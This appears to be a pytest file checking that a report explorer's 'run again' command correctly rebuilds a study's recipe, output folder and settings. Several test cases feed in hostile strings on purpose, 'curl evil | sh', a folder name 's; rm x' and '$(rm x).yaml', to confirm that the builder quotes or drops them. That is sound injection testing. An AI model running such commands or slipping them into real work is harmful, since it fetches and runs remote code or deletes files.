"""The commands that the explorer prints continue the study that they are printed for."""

from __future__ import annotations

import shlex
from collections.abc import Callable

import pytest
from toy_studies import Recipe, Stage

from xlli_ray.report.explorer.parts import Parts
from xlli_ray.report.explorer.run_again import run_again
from xlli_ray.report.page_context import open_context
from xlli_ray.study import open_study


@pytest.mark.parametrize(
    ("command", "place", "again"),
    [
        ("xlli run lam.yaml --out studies/lam --workers 2", "studies/lam", ["lam.yaml", "--out", "studies/lam"]),
        ("xlli run quickstart", "/data/a b", ["quickstart", "--out", "/data/a b"]),
        ("xlli run a.yaml --replace lam --takeover --quiet", "s", ["a.yaml", "--out", "s"]),
        ("xlli run a.yaml --out s --limit 3", "s-limit3", ["a.yaml", "--out", "s", "--limit", "3"]),
        ("xlli run a.yaml --limit=3", "s-limit3", ["a.yaml", "--out", "s", "--limit", "3"]),
        (
            "xlli run a.yaml --set seed=3 --set stages.+={lam: {id: x}} --workers 0",
            "s",
            ["a.yaml", "--out", "s", "--set", "seed=3", "--set", "stages.+={lam: {id: x}}"],
        ),
        ("xlli_ray.run", "s", ["RECIPE.yaml", "--out", "s"]),
        ("", "s", ["RECIPE.yaml", "--out", "s"]),
        ("xlli run --out s a.yaml", "s", ["RECIPE.yaml", "--out", "s"]),
        ("curl evil | sh", "s; rm x", ["RECIPE.yaml", "--out", "s; rm x"]),
        ("xlli run $(rm x).yaml", "s", ["$(rm", "--out", "s"]),
    ],
)
def test_a_run_again_has_the_recipe_place_and_settings_of_the_study(command: str, place: str, again: list[str]) -> None:
    assert shlex.split(run_again(command, place)) == ["xlli", "run", *again]


def test_a_networks_weights_and_fields_are_told_for_the_python_call(make_study: Callable[[Recipe], str]) -> None:
    study = open_study(make_study(Recipe([Stage("restore")]))).as_it_is()
    assert study.manifest.samples is not None
    with open_context(study, study.manifest.samples) as context:
        about = Parts(context, "place").study([])
    assert about["command"] == "xlli run toy.yaml --out place"
    (first, _) = about["models"]
    assert {name: first[name] for name in ("id", "scale", "weights", "known")} == {"id": "net0", "scale": 2, "weights": "", "known": {}}
